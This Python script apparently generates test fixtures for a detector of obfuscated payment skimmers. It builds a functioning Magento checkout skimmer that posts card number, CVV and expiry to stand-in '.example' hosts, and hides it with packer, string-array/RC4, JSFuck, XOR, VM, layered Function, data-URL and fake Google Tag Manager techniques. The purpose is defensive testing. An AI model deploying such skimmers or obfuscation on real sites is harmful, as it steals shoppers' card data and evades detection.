#!/usr/bin/env python3
"""Write the obfuscated-skimmer fixtures of tests/deobfuscation_*.rs, reproducibly.

    python3 scripts/gen_obfuscation_fixtures.py            # writes tests/fixtures/obfuscation/

Every fixture wraps the same kind of skimmer (read the card fields of a Magento checkout on
submit, POST them to an outside host) in one hiding technique, written here from public
descriptions of the technique, never copied from a sample:

- Dean Edwards' packer: ``eval(function(p,a,c,k,e,d){...}('0 1=...',62,N,'w|o|r|d|s'.split('|'),0,{}))``
- javascript-obfuscator string arrays (its documented options ``stringArrayEncoding: base64 |
  rc4``, ``stringArrayRotate``, ``stringArrayWrappersType: function | variable``): the array in
  a self-replacing function, a decoder with the obfuscator's lower-case-first Base64 alphabet,
  a rotation loop that shifts the array until a ``parseInt`` checksum matches;
- JSFuck fragments (``(!![]+[])[+[]]`` is ``"t"``);
- an XOR decoder with a key, run at start-up;
- HTML entities decoded through jQuery (``$('<div/>').html('&#104;...').text()``);
- a small VM (an opcode table and a dispatch loop) assembling the URL;
- a ``Function`` chain whose second layer is XOR-encoded with a key the first layer computes;
- a ``.js`` file that is a ``<script>`` block, a page that is one commented script, a
  ``data:`` script URL and a Google Tag Manager container with a Custom HTML tag.

The random choices (names, keys, rotation) come from a fixed seed, so the files only change
when this script does.
"""
import base64, json, os, random, re, sys

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "tests", "fixtures", "obfuscation")
rnd = random.Random(11)


def skimmer(url_expr, fields=("payment[cc_number]", "payment[cc_cid]", "payment[cc_exp_month]")):
    """A checkout skimmer whose destination is the JavaScript expression `url_expr`."""
    reads = ",".join(
        f"'{f}':document.querySelector('[name=\"{f}\"]').value" for f in fields
    )
    return (
        "document.addEventListener('submit',function(ev){"
        f"var d={{{reads}}};"
        "var x=new XMLHttpRequest();"
        f"x.open('POST',{url_expr},true);"
        "x.setRequestHeader('Content-Type','application/json');"
        "x.send(JSON.stringify(d));"
        "},true);"
    )


def hexname():
    return "_0x" + "".join(rnd.choice("0123456789abcdef") for _ in range(4))


def js_str(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n") + "'"


# ---- Dean Edwards' packer -----------------------------------------------------------------

def base62(c):
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    head = "" if c < 62 else base62(c // 62)
    c %= 62
    return head + (chr(c + 29) if c > 35 else digits[c])


def pack(code):
    words = re.findall(r"\b\w+\b", code)
    order = sorted(set(words), key=lambda w: (-words.count(w), w))
    index = {w: base62(i) for i, w in enumerate(order)}
    packed = re.sub(r"\b\w+\b", lambda m: index[m.group(0)], code)
    unpacker = (
        "function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
        "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){"
        "d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
        "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
    )
    return (
        f"eval({unpacker}({js_str(packed)},62,{len(order)},"
        f"{js_str('|'.join(order))}.split('|'),0,{{}}))\n"
    )


# ---- javascript-obfuscator string arrays ------------------------------------------------

STD = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
OBF = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="


def obf_b64(data: bytes):
    # The obfuscator writes its strings without padding.
    return base64.b64encode(data).decode().translate(str.maketrans(STD, OBF)).rstrip("=")


def rc4(data: bytes, key: str):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + ord(key[i % len(key)])) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for b in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


B64_DECODER = (
    "function(_s){var c='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=',"
    "o='',t='';for(var b=0,d,e,f=0;e=_s.charAt(f++);~e&&(d=b%4?d*64+e:e,b++%4)?"
    "o+=String.fromCharCode(255&d>>(-2*b&6)):0){e=c.indexOf(e);}"
    "for(var i=0,n=o.length;i<n;i++){t+='%'+('00'+o.charCodeAt(i).toString(16)).slice(-2);}"
    "return decodeURIComponent(t);}"
)
RC4_DECODER = (
    "function(_s,_k){var s=[],j=0,x,r='',c='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=',o='';"
    "for(var b=0,d,e,f=0;e=_s.charAt(f++);~e&&(d=b%4?d*64+e:e,b++%4)?"
    "o+=String.fromCharCode(255&d>>(-2*b&6)):0){e=c.indexOf(e);}"
    "for(var i=0;i<256;i++){s[i]=i;}for(i=0;i<256;i++){j=(j+s[i]+_k.charCodeAt(i%_k.length))%256;"
    "x=s[i];s[i]=s[j];s[j]=x;}i=0;j=0;for(var y=0;y<o.length;y++){i=(i+1)%256;j=(j+s[i])%256;"
    "x=s[i];s[i]=s[j];s[j]=x;r+=String.fromCharCode(o.charCodeAt(y)^s[(s[i]+s[j])%256]);}return r;}"
)


def string_array(strings, payload_fn, encoding):
    """payload_fn(call) builds the payload; call(s) returns the accessor call for string s."""
    arr_fn, dec_fn, wrap_fn, alias = hexname(), hexname(), hexname(), hexname()
    offset = rnd.randrange(0x100, 0x300)
    numbers = [f"{rnd.randrange(10000, 999999)}{''.join(rnd.choice('abcdefXYZ') for _ in range(5))}" for _ in range(4)]
    entries = list(strings) + numbers
    rnd.shuffle(entries)
    keys = {e: "".join(rnd.choice("abcdefghijkXYZ#@%&!") for _ in range(4)) for e in entries}

    def enc(e):
        data = e.encode()
        return obf_b64(rc4(data, keys[e]) if encoding == "rc4" else data)

    def call(e, fn=dec_fn, shift=0):
        idx = hex(offset + entries.index(e) + shift)
        return f"{fn}({idx},{js_str(keys[e])})" if encoding == "rc4" else f"{fn}({idx})"

    # Checksum over the numeric entries in their correct order.
    coefs = [rnd.choice([1, 2, 3, 4, 5]) for _ in numbers]
    terms = [f"parseInt({call(n, '_0xd')})/{hex(c)}" for n, c in zip(numbers, coefs)]
    target = sum(int(re.match(r"\d+", n).group(0)) / c for n, c in zip(numbers, coefs))
    expr = "+".join(terms)
    rot = rnd.randrange(3, len(entries) - 1)
    stored = entries[-rot:] + entries[:-rot]
    decoder = RC4_DECODER if encoding == "rc4" else B64_DECODER
    key_param = ",_k" if encoding == "rc4" else ""
    key_arg = ",_k" if encoding == "rc4" else ""
    head = (
        f"function {arr_fn}(){{var _a=[{','.join(js_str(enc(e)) for e in stored)}];"
        f"{arr_fn}=function(){{return _a;}};return {arr_fn}();}}"
        f"function {dec_fn}(_i{key_param}){{var _t={arr_fn}();return {dec_fn}=function(_n{key_param}){{"
        f"_n=_n-{hex(offset)};var _v=_t[_n];if({dec_fn}.ready===undefined){{{dec_fn}.dec={decoder};"
        f"{dec_fn}.cache={{}};{dec_fn}.ready=!![];}}var _c={dec_fn}.cache[_n];"
        f"if(_c===undefined){{_v={dec_fn}.dec(_v{key_arg});{dec_fn}.cache[_n]=_v;}}else{{_v=_c;}}return _v;}},"
        f"{dec_fn}(_i{key_param});}}"
        f"(function(_f,_g){{var _0xd={dec_fn},_a=_f();while(!![]){{try{{var _s={expr};"
        f"if(_s===_g)break;else _a['push'](_a['shift']());}}catch(_e){{_a['push'](_a['shift']());}}}}}}"
        f"({arr_fn},{target!r}));"
    )
    # Accessor wrappers, as stringArrayWrappersType 'function' and 'variable' write them.
    shift = 0x37

    def wrapped(e):
        if encoding == "rc4":
            return f"{wrap_fn}({hex(offset + entries.index(e) + shift)},{js_str(keys[e])})"
        return f"{wrap_fn}({hex(offset + entries.index(e) + shift)})"

    def aliased(e):
        return call(e, alias)

    wrapper = (
        f"function {wrap_fn}(_p,_q){{return {dec_fn}(_p-{hex(shift)},_q);}}"
        f"var {alias}={dec_fn};"
    )
    return head, wrapper, payload_fn(call, wrapped, aliased)


def string_array_fixture(encoding, host):
    url = f"https://{host}/checkout/gate.php"
    strings = ["submit", "querySelector", "POST", url, "Content-Type", "application/json", "value"]

    def payload(call, wrapped, aliased):
        fields = ["payment[cc_number]", "payment[cc_cid]"]
        return (
            "(function(){"
            + f"document['addEventListener']({call('submit')},function(ev){{"
            + "var d={"
            + ",".join(
                f"'{f}':document[{wrapped('querySelector')}]('[name=\"{f}\"]')[{aliased('value')}]"
                for f in fields
            )
            + "};var x=new XMLHttpRequest();"
            + f"x['open']({call('POST')},{wrapped(url)},!![]);"
            + f"x['setRequestHeader']({aliased('Content-Type')},{call('application/json')});"
            + "x['send'](JSON['stringify'](d));},!![]);})();"
        )

    head, wrapper, body = string_array(strings, payload, encoding)
    # The wrappers live inside the payload's function, as the obfuscator places them.
    body = body.replace("(function(){", "(function(){" + wrapper, 1)
    return head + "\n" + body + "\n"


# ---- JSFuck ------------------------------------------------------------------------------

JSF_CHARS = {
    "0": "+[]", "1": "+!+[]",
    "f": "(![]+[])[+[]]", "a": "(![]+[])[+!+[]]", "l": "(![]+[])[!+[]+!+[]]",
    "s": "(![]+[])[!+[]+!+[]+!+[]]", "e": "(!![]+[])[!+[]+!+[]+!+[]]",
    "t": "(!![]+[])[+[]]", "r": "(!![]+[])[+!+[]]", "u": "(!![]+[])[!+[]+!+[]]",
    "n": "([][[]]+[])[+!+[]]", "d": "([][[]]+[])[!+[]+!+[]]", "i": "([][[]]+[])[!+[]+!+[]+!+[]+!+[]+!+[]]",
}


def jsfuck(word):
    return "+".join(JSF_CHARS[c] for c in word)


# ---- helpers for the other techniques -------------------------------------------------------

def xor_hex(s, key):
    return "".join(f"{ord(c) ^ ord(key[i % len(key)]):02x}" for i, c in enumerate(s))


def vm_program(url, k):
    code = []
    for i, ch in enumerate(url):
        code += [0, ord(ch) ^ k, 3, k, 2]
        if i:
            code += [1]
    return code


def write(name, text):
    with open(os.path.join(OUT, name), "w") as f:
        f.write(text)


def main():
    os.makedirs(OUT, exist_ok=True)
    header = "// Generated by scripts/gen_obfuscation_fixtures.py; expect: {rule} {host}\n"

    host = "cdn-packjs.example"
    write("packer.js", header.format(rule="payment-data-exfiltration", host=host)
          + pack(skimmer(f"'https://{host}/collect'")))

    host = "static-jsobf.example"
    write("string-array-base64.js", header.format(rule="payment-data-exfiltration", host=host)
          + string_array_fixture("base64", host))

    host = "rc4-metrics.example"
    write("string-array-rc4.js", header.format(rule="payment-data-exfiltration", host=host)
          + string_array_fixture("rc4", host))

    host = "turnstiled.example"
    write("jsfuck.js", header.format(rule="payment-data-exfiltration", host=host)
          + "var _h='https://'+(" + jsfuck("turnstiled") + ")+'.example/'+(" + jsfuck("stats") + ");\n"
          + skimmer("_h") + "\n")

    host = "xor-cdn.example"
    key = "mK9z"
    write("xor-key.js", header.format(rule="payment-data-exfiltration", host=host)
          + "function _xd(h,k){var o='';for(var i=0;i<h.length;i+=2){o+=String.fromCharCode("
          "parseInt(h.substr(i,2),16)^k.charCodeAt((i/2)%k.length));}return o;}\n"
          + f"var _k=[109,75,57,122].map(function(c){{return String.fromCharCode(c);}}).join('');\n"
          + f"var _u=_xd('{xor_hex(f'https://{host}/g.php', key)}',_k);\n"
          + skimmer("_u") + "\n")

    host = "entity-fonts.example"
    ent = "".join(f"&#{ord(c)};" for c in f"https://{host}/fonts.css")
    write("html-entities.js", header.format(rule="payment-data-exfiltration", host=host)
          + f"var _e=jQuery('<div/>').html('{ent}').text();\n"
          + skimmer("_e") + "\n")

    host = "vm-telemetry.example"
    k = 23
    prog = vm_program(f"https://{host}/t", k)
    write("vm-dispatch.js", header.format(rule="payment-data-exfiltration", host=host)
          + "var OPS=[function(s,a){s.push(a);},function(s){var b=s.pop(),a=s.pop();s.push(a+b);},"
          "function(s){s.push(String.fromCharCode(s.pop()));},function(s,a){s.push(s.pop()^a);}];\n"
          f"var CODE={json.dumps(prog, separators=(',', ':'))};\n"
          "function run(c){var st=[],pc=0;while(pc<c.length){var op=c[pc++];switch(op){"
          "case 0:OPS[0](st,c[pc++]);break;case 1:OPS[1](st);break;case 2:OPS[2](st);break;"
          "case 3:OPS[3](st,c[pc++]);break;default:return '';}}return st.pop();}\n"
          "var _dst=run(CODE);\n"
          + skimmer("_dst") + "\n")

    host = "layered-assets.example"
    layer2 = skimmer(f"'https://{host}/l2'")
    key = 7  # computed by layer 1 as [3,1,4].reduce(...) % 11 + ... ; see below
    keyexpr = "[3,1,4].reduce(function(a,b){return a*b+1;},0)"
    kval = 0
    for b in [3, 1, 4]:
        kval = kval * b + 1
    enc2 = "".join(f"{ord(c) ^ kval:02x}" for c in layer2)
    layer1 = (
        f"var k={keyexpr};var p='{enc2}';var s='';"
        "for(var i=0;i<p.length;i+=2){s+=String.fromCharCode(parseInt(p.substr(i,2),16)^k);}"
        "Function(s)();"
    )
    write("function-chain.js", header.format(rule="payment-data-exfiltration", host=host)
          + f"new Function(atob('{base64.b64encode(layer1.encode()).decode()}'))();\n")

    host = "wrapped-minjs.example"
    write("script-wrapped.js",
          f"<script>(function(){{var u='https://'+['{host}'][0]+'/m';{skimmer('u')}}})();</script>\n")

    host = "comment-loader.example"
    shifted = "".join(chr(ord(c) + 1) for c in f"<script src=\"https://{host}/l.js\"></script>")
    write("commented-loader.html",
          "<!--\n"
          f"var s={json.dumps(shifted)};var m='';for(var i=0;i<s.length;i++){{m+=String.fromCharCode(s.charCodeAt(i)-1);}}document.write(m);\n"
          "//-->\n")

    host = "data-uri-cdn.example"
    code = skimmer(f"'https://{host}/d'")
    data = base64.b64encode(code.encode()).decode()
    write("data-url-checkout.html",
          "<!doctype html><html><head><title>Checkout</title>\n"
          f"<script src=\"data:text/javascript;base64,{data}\"></script></head><body>\n"
          "<form id=\"co-payment-form\" action=\"/checkout/onepage/savePayment\" method=\"post\">\n"
          "<input name=\"payment[cc_number]\" autocomplete=\"cc-number\">\n"
          "<input name=\"payment[cc_cid]\" autocomplete=\"cc-csc\">\n"
          "<button type=\"submit\">Place order</button></form></body></html>\n")

    host = "gtm-tagcdn.example"
    tag = "<script>" + skimmer(f"'https://{host}/c'") + "</script>"
    tag_json = json.dumps(tag).replace("<", "\\u003C").replace(">", "\\u003E").replace("/", "\\/")
    write("gtm-container.js",
          "// Copyright 2012 Google Inc. All rights reserved.\n"
          "(function(){var data={\"resource\":{\"version\":\"12\",\"macros\":[{\"function\":\"__e\"}],"
          "\"tags\":[{\"function\":\"__ua\",\"vtp_trackingId\":\"UA-1234-1\",\"tag_id\":1},"
          "{\"function\":\"__html\",\"once_per_event\":true,\"vtp_html\":" + tag_json + ","
          "\"vtp_supportDocumentWrite\":false,\"tag_id\":2}],\"predicates\":[],\"rules\":[]},"
          "\"runtime\":[]};var gtm=window.google_tag_manager=window.google_tag_manager||{};"
          "gtm.data=data;})();\n")
    print(f"wrote {len(os.listdir(OUT))} fixtures to {os.path.normpath(OUT)}")


if __name__ == "__main__":
    sys.exit(main())
